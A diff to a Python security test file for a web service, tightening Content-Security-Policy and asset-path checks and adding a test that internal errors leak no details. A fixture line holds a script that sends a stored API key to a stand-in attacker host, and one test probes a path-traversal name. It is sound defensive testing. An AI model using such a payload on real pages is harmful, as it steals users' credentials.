@@ -27,7 +27,7 @@ from thinkbox.service.api.openai_render import ChatRender, image_is_ours, image_
 from thinkbox.service.secrets.keys import Keyring
 
 from .conftest import Running
-from .service_support import program, read_sse
+from .service_support import QuestionModel, ThreadServer, directives, program, read_sse, service_settings
 
 HOSTILE = {
     "evil.html": b"<html><script>fetch('https://evil.example/?k='+localStorage['thinkbox.key'])</script>",
@@ -95,14 +95,45 @@ def test_errors_and_json_answers_are_inert_too(running: Running) -> None:
         assert_inert(answer)
 
 
-def test_the_page_keeps_its_own_policy_and_the_docs_cannot_be_framed(running: Running) -> None:
+def test_the_page_and_the_docs_keep_their_own_policies_and_cannot_be_framed(running: Running) -> None:
+    """The page and the docs run scripts of this server only (tests/web/test_web_docs.py loads the docs)."""
     page = httpx.get(running.url + "/")
     assert "script-src 'self'" in page.headers["content-security-policy"]
     assert "sandbox" not in page.headers["content-security-policy"]  # the page runs its own scripts
     for path in ("/docs", "/redoc"):
         docs = httpx.get(running.url + path)
         assert docs.status_code == 200 and docs.headers.get("x-content-type-options") == "nosniff"
-        assert docs.headers["content-security-policy"] == "frame-ancestors 'none'"
+        policy = directives(docs.headers["content-security-policy"])
+        assert policy["default-src"] == "'none'" and policy["frame-ancestors"] == "'none'", policy
+        assert policy["script-src"].split()[0] == "'self'" and "unsafe" not in policy["script-src"], policy
+    for name in ("swagger-ui-bundle.js", "redoc.standalone.js", "../__init__.py", "core.py"):
+        asset = httpx.get(f"{running.url}/docs/assets/{name}")
+        assert asset.status_code == (200 if name.endswith(".js") else 404), (name, asset.status_code)
+        assert_inert(asset)
+
+
+def test_a_bug_is_answered_in_the_error_shape_with_the_headers_of_every_answer(tmp_path: Path) -> None:
+    """An unhandled exception (a bug) is answered by Starlette outside the app's middleware: its 500 must
+    still be inert, and say nothing of the exception (the server's log has it)."""
+    server = ThreadServer(service_settings(tmp_path), QuestionModel())
+
+    async def bug() -> None:
+        raise RuntimeError("internal detail: /srv/thinkbox/secret.key")
+
+    for path in ("/v1/test-bug", "/v1/chat/completions-test-bug"):  # thinkbox's shape, then OpenAI's
+        server.app.add_api_route(path, bug, methods=["GET"])
+    server.start()
+    try:
+        answers = [httpx.get(server.url + path) for path in ("/v1/test-bug", "/v1/chat/completions-test-bug")]
+    finally:
+        server.stop()
+    for answer in answers:
+        assert answer.status_code == 500
+        assert_inert(answer)
+        assert answer.headers["content-type"] == "application/json"
+        assert "internal detail" not in answer.text and "RuntimeError" not in answer.text, answer.text
+    assert answers[0].json()["error"]["code"] == "internal_error"
+    assert answers[1].json()["error"]["code"] == "internal_error" and "type" in answers[1].json()["error"]
 
 
 def test_an_image_link_serves_only_bytes_the_service_saved_there(running: Running) -> None:
